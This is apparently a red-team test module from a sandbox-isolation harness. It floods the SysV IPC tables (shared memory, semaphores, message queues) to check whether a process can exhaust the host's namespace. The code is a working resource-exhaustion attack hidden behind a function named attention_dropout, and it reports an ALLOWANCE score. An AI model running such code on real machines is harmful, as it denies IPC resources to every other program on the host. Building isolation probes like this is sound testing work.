"""Red team (issue 26, machine-wide): fills the SysV tables of its IPC namespace: 4100 shared-memory
segments of one byte (kernel.shmmni is 4096 on a host), then up to 2000 semaphore sets and message queues.
In a private IPC namespace that harms no one; in the host's (the basic mode) it takes the machine's
shmmni, and no program on the host can create a segment while they are held. ALLOWANCE counts 1 when it
held the host's whole shmmni; the attack removes them itself after holding them half a second.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import time as _time

_libc = _ctypes.CDLL(None, use_errno=True)
_HOST_IPC = 4026531839  # the inode of the initial IPC namespace (PROC_IPC_INIT_INO)


def _fill():
    try:
        host = _os.stat("/proc/self/ns/ipc").st_ino == _HOST_IPC
    except OSError:
        host = True  # cannot tell: count them
    made = {"shm": [], "sem": [], "msg": []}
    deadline = _time.monotonic() + 1.5
    for _ in range(4100):
        ident = _libc.shmget(0, 1, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if ident < 0 or _time.monotonic() > deadline:
            break
        made["shm"].append(ident)
    for _ in range(2000):
        ident = _libc.semget(0, 1, 0o1600)
        if ident < 0 or _time.monotonic() > deadline:
            break
        made["sem"].append(ident)
    for _ in range(2000):
        ident = _libc.msgget(0, 0o1600)
        if ident < 0 or _time.monotonic() > deadline:
            break
        made["msg"].append(ident)
    refused = _ctypes.get_errno()
    _time.sleep(0.5)
    for ident in made["shm"]:
        _libc.shmctl(ident, 0, None)  # IPC_RMID
    for ident in made["sem"]:
        _libc.semctl(ident, 0, 0)
    for ident in made["msg"]:
        _libc.msgctl(ident, 0, None)
    counts = {kind: len(idents) for kind, idents in made.items()}
    return host, counts, refused


def attention_dropout(*args, **kwargs):
    host, counts, refused = _fill()
    exhausted = host and counts["shm"] >= 4000  # the host's whole shmmni, held
    raise RuntimeError(f"RTEAM r_sysv_host_tables ran: ALLOWANCE kernel {int(exhausted)} host tables exhausted "
                       f"(host namespace: {host}; made {counts}; last errno {refused})")
